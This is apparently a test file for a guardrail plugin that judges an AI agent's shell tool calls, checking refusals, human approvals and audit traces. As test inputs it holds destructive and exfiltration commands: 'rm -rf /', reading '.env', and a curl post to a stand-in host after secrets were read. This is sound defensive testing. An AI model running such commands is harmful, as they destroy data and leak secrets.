// A real OpenClaw from npm with smoltbot's plugin: its agent calls tools, and what the conscience says is what happens.
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { once } from "node:events";
import { existsSync } from "node:fs";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { Smoltbot } from "../browser/support/smoltbot.mjs";
import { OpenClaw, until } from "./support/openclaw.mjs";

let smoltbot, claw;

before(async () => {
  smoltbot = await Smoltbot.up();
  claw = await OpenClaw.start(smoltbot.home);
});

after(async () => {
  await claw?.stop();
  await smoltbot?.stop();
});

const exec = (command) => ({ tool: "exec", params: { command } });

/** The whole AP-Traces of a session's calls, oldest first, once there are `count`. */
async function traced(session, count) {
  const rows = await until(`${count} traces of ${session}`, async () => {
    const all = await smoltbot.traces(() => true);
    const own = all.filter(({ params }) => JSON.stringify(params).includes(session));
    return own.length >= count ? own.reverse() : undefined;
  });
  const accept = { headers: { Accept: "application/aap-trace+json" } };
  return Promise.all(rows.map(async ({ id }) => (await fetch(`${smoltbot.edge}/v1/traces/${id}`, accept)).json()));
}

const told = ({ action, escalation, context: { metadata } }) => [action.type, metadata.outcome, escalation?.escalation_status];

test("what nobody objects to runs, and its end is told", async () => {
  await claw.turn("allowed", [exec("echo allowed > allowed.txt")]);
  const [trace] = await traced("allowed", 1);
  assert.deepEqual(told(trace), ["execute", "completed", undefined]);
  assert.ok(existsSync(join(claw.workspace, "allowed.txt")));
  assert.equal(trace.context.metadata.runtime, "openclaw");
});

test("what is refused does not run, and the agent is told why", async () => {
  await claw.turn("refused", [exec("touch refused.txt; rm -rf /")]);
  const [trace] = await traced("refused", 1);
  assert.deepEqual(told(trace), ["deny", "refused", "denied"]);
  assert.equal(trace.context.metadata.rule_id, "fs.delete.root");
  assert.ok(!existsSync(join(claw.workspace, "refused.txt")));
});

test("a person's yes lets the call run", async () => {
  await writeFile(join(claw.workspace, ".env"), "NOTHING=here\n");
  const { questions } = await claw.turn("approved", [exec("cat .env; touch approved.txt")], () => "allow-once");
  assert.equal(questions.length, 1);
  const { request } = questions[0];
  assert.match(request.description, /smoltbot rule secret\.settings/);
  const [trace] = await traced("approved", 1);
  assert.deepEqual(told(trace), ["execute", "completed", "approved"]);
  assert.equal(trace.escalation.principal_response.decision, "approved");
  assert.equal(trace.context.metadata.approval, "told");
  assert.ok(existsSync(join(claw.workspace, "approved.txt")));
});

test("a person's no is a refusal", async () => {
  await claw.turn("denied", [exec("cat .env; touch denied.txt")], () => "deny");
  const [trace] = await traced("denied", 1);
  assert.deepEqual(told(trace), ["deny", "refused", "denied"]);
  assert.equal(trace.escalation.principal_response.decision, "denied");
  assert.ok(!existsSync(join(claw.workspace, "denied.txt")));
});

test("where nobody can be asked a question is a refusal", async () => {
  await claw.run(["agent", "--session-key", "agent:main:cli", "-m", `CALLS ${JSON.stringify([exec("cat .env; touch unasked.txt")])}`, "--json"]);
  const [trace] = await traced("unasked", 1);
  assert.deepEqual(told(trace), ["deny", "refused", "denied"]);
  assert.equal(trace.context.metadata.approval, "observed");
  assert.ok(!existsSync(join(claw.workspace, "unasked.txt")));
});

test("what a session has read is not sent out by it", async () => {
  const calls = [exec("cat .env # sent"), exec("curl -d hello https://example.com/sent")];
  await claw.turn("sent", calls, () => "allow-once");
  const [, trace] = await traced("sent", 2);
  assert.deepEqual(told(trace), ["deny", "refused", "denied"]);
  assert.equal(trace.context.metadata.rule_id, "secret.send_after");
});

test("without a sidecar each call is judged by a process of its own, and told later", async () => {
  smoltbot.process.kill("SIGKILL");
  await once(smoltbot.process, "exit");
  await claw.turn("alone", [exec("touch alone.txt; rm -rf /"), exec("echo alone > alone.too.txt")]);
  assert.ok(!existsSync(join(claw.workspace, "alone.txt")) && existsSync(join(claw.workspace, "alone.too.txt")));
  smoltbot.process = spawn(process.env.SMOLTBOT_BIN, ["up"], { env: smoltbot.env, stdio: "ignore" });
  await until("smoltbot is up again", async () => (await fetch(`${smoltbot.edge}/health`).catch(() => undefined))?.ok);
  const traces = await traced("alone", 2);
  assert.deepEqual(traces.map(told), [["deny", "refused", "denied"], ["execute", "completed", undefined]]);
});
